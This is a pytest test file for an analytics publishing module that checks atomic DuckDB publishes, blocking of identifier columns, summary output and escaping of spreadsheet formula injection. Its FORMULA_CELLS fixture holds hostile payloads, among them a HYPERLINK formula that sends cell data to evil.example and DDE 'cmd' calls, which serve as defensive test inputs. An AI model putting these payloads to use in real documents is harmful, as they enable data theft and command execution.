"""Publishing analytics.duckdb: only the contract's tables, atomically, never over today's file
for a look into the past; and `kap summary` reads what was published."""
from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import duckdb
import pytest

from kap.publish import PublishRefused, as_of_target, publish
from kap.quality.targets import MART_TABLES
from kap.summary import describe
from kap.warehouse import writer
from test_quality_data import good_marts


def _tables(path) -> set[str]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        return {r[0] for r in con.execute("SELECT table_schema || '.' || table_name FROM information_schema.tables").fetchall()}
    finally:
        con.close()


@pytest.fixture
def warehouse_with_marts(tmp_settings):
    with writer(tmp_settings) as con:
        good_marts(con)
        con.execute("CREATE SCHEMA IF NOT EXISTS staging")
        con.execute("CREATE TABLE staging.stg_dosing__doses AS SELECT 1 AS x")
        con.execute("CREATE TABLE marts.int_not_a_contract_table AS SELECT 1 AS x")
        con.execute("INSERT INTO raw.quarantine VALUES ('f', 1, 'out_of_range', 'd', 'MRN123', now())")
    return tmp_settings


def test_publish_copies_only_contract_marts_and_dq(warehouse_with_marts):
    settings = warehouse_with_marts
    path = publish(settings, run_id="run-1")
    assert path == settings.analytics
    expected = {f"main.{t}" for t in MART_TABLES} | {"main.dq_results", "main.publish_runs"}
    assert _tables(path) == expected
    assert not list(settings.home.glob("analytics.duckdb.tmp-*"))
    con = duckdb.connect(str(path), read_only=True)
    try:
        rows = dict(con.execute("SELECT table_name, row_count FROM publish_runs WHERE run_id = 'run-1'").fetchall())
    finally:
        con.close()
    assert rows["care_pathways"] == 1 and "dq_results" in rows


def test_publish_without_marts_still_publishes_dq_and_says_so(tmp_settings):
    path = publish(tmp_settings, run_id="run-0")
    assert _tables(path) == {"main.dq_results", "main.publish_runs"}
    text = describe(tmp_settings)
    assert "care_pathways not published" in text and "n/a" in text


def test_a_look_into_the_past_never_replaces_todays_file(warehouse_with_marts):
    settings = warehouse_with_marts
    publish(settings, run_id="run-1")
    today = settings.analytics.read_bytes()
    past = publish(settings, run_id="run-2", as_of="2025-06-01 00:00:00")
    assert past == as_of_target(settings, "2025-06-01 00:00:00") == settings.home / "analytics_asof_20250601T000000.duckdb"
    assert settings.analytics.read_bytes() == today
    con = duckdb.connect(str(past), read_only=True)
    try:
        assert str(con.execute("SELECT DISTINCT as_of FROM publish_runs").fetchone()[0]) == "2025-06-01 00:00:00"
    finally:
        con.close()


def test_an_identifier_column_in_a_mart_blocks_publishing(warehouse_with_marts):
    settings = warehouse_with_marts
    publish(settings, run_id="run-1")
    before = settings.analytics.read_bytes()
    with writer(settings) as con:
        con.execute("ALTER TABLE marts.care_pathways ADD COLUMN patient_mrn VARCHAR")
    with pytest.raises(PublishRefused, match="patient_mrn"):
        publish(settings, run_id="run-2")
    assert settings.analytics.read_bytes() == before


def test_summary_reports_figures_and_dq(warehouse_with_marts):
    settings = warehouse_with_marts
    from kap.quality import validate

    validate(settings, "marts", "run-1", as_of="2025-06-01 00:00:00")
    publish(settings, run_id="run-1")
    text = describe(settings)
    assert "patients: 1" in text and "episodes: 1" in text and "doses: 1" in text
    assert "induction completed: 100.0 %" in text
    assert "PHQ-9 response: 100.0 %" in text
    assert "quarantined: 1 records" in text
    assert "caseload (week of 2025-01-06): 1 therapists, median 3.0, largest 3 active episodes" in text
    assert ("continuity: usual therapist (UPC >= 0.75) in 100.0 % of 1 episodes with 2+ therapy sessions, "
            "mean COC 1.00, prepared and first integrated by the same therapist: 100.0 %") in text
    assert "marts:" in text and "warnings" in text
    assert str(settings.warehouse) in text and str(settings.airflow_home) in text


READER = textwrap.dedent("""
    import json, os, sys, time, duckdb
    path, ready, stop = sys.argv[1], sys.argv[2], sys.argv[3]
    seen, errors, mixed = set(), [], []
    open(ready, "w").close()
    # reads until told to stop (not for a fixed time: on a loaded machine the publishes may take
    # longer than any fixed window), then once more, so the last snapshot is read too
    while True:
        last = os.path.exists(stop)
        try:
            con = duckdb.connect(path, read_only=True)
        except Exception as error:   # the file does not exist before the first publish
            if "does not exist" not in str(error) and "No such file" not in str(error):
                errors.append(str(error))
            time.sleep(0.01)
            if last:
                break
            continue
        try:
            runs = con.execute("SELECT DISTINCT run_id FROM publish_runs").fetchall()
            counts = dict(con.execute("SELECT table_name, row_count FROM publish_runs").fetchall())
            actual = {t: con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in counts}
            if len(runs) != 1 or actual != counts:
                mixed.append([runs, counts, actual])
            seen.add(runs[0][0])
        except Exception as error:
            errors.append(str(error))
        finally:
            con.close()
        if last:
            break
    print(json.dumps({"seen": sorted(seen), "errors": errors, "mixed": mixed}))
""")


def test_readers_never_see_a_half_built_or_mixed_snapshot(warehouse_with_marts, tmp_path):
    settings = warehouse_with_marts
    ready, stop = tmp_path / "reader.ready", tmp_path / "reader.stop"
    reader = subprocess.Popen([sys.executable, "-c", READER, str(settings.analytics), str(ready), str(stop)],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 120
        while not ready.exists():            # the reader is reading before the first publish
            assert reader.poll() is None and time.monotonic() < deadline, reader.stderr.read()
            time.sleep(0.05)
        for n in range(8):
            with writer(settings) as con:   # each run's marts differ in size
                con.execute("INSERT INTO marts.dosing_sessions SELECT * REPLACE ('d-extra-' || "
                            f"'{n}' AS dose_key) FROM marts.dosing_sessions LIMIT 1")
            publish(settings, run_id=f"run-{n}")
            time.sleep(0.2)
        stop.touch()
        out, err = reader.communicate(timeout=120)
    finally:
        if reader.poll() is None:
            reader.kill()
    report = json.loads(out)
    assert report["errors"] == []
    assert report["mixed"] == []
    assert "run-7" in report["seen"], report   # the last snapshot is read after the stop
    assert len(report["seen"]) >= 2, report   # the reader really saw snapshots change


def test_the_published_file_opens_in_the_duckdb_1x_shell_bi_tools_use(warehouse_with_marts):
    # duckdb-cli from PyPI (and most BI drivers) are DuckDB 1.x: they must read what we publish.
    shell = Path(sys.executable).with_name("duckdb")
    assert shell.exists(), "duckdb-cli is a project dependency"
    version = subprocess.run([str(shell), "-version"], capture_output=True, text=True, check=True).stdout
    assert version.startswith("v1."), version
    path = publish(warehouse_with_marts, run_id="run-bi")
    out = subprocess.run([str(shell), "-readonly", "-csv", str(path), "-c",
                          "SELECT count(*) AS n FROM care_pathways"],
                         capture_output=True, text=True, timeout=60)
    assert out.returncode == 0, out.stderr
    assert out.stdout.strip().splitlines() == ["n", "1"]


FORMULA_CELLS = {
    "=": '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("trigger", list(FORMULA_CELLS))
def test_formula_injection_in_published_text_is_escaped(warehouse_with_marts, trigger):
    settings = warehouse_with_marts
    hostile = FORMULA_CELLS[trigger]
    with writer(settings) as con:
        con.execute("INSERT INTO marts.care_pathways SELECT * REPLACE (? AS current_phase) FROM marts.care_pathways",
                    [hostile])
        con.execute("INSERT INTO marts.care_pathways SELECT * REPLACE (? AS current_phase) FROM marts.care_pathways "
                    "LIMIT 1", ["clinic=01+@"])                          # a trigger inside: unchanged
    publish(settings, run_id="run-formula")
    con = duckdb.connect(str(settings.analytics), read_only=True)
    try:
        values = {r[0] for r in con.execute("SELECT current_phase FROM care_pathways").fetchall()}
    finally:
        con.close()
    assert "'" + hostile in values and hostile not in values
    assert "clinic=01+@" in values
    assert not [v for v in values if v and v[0] in "=+-@\t\r"]
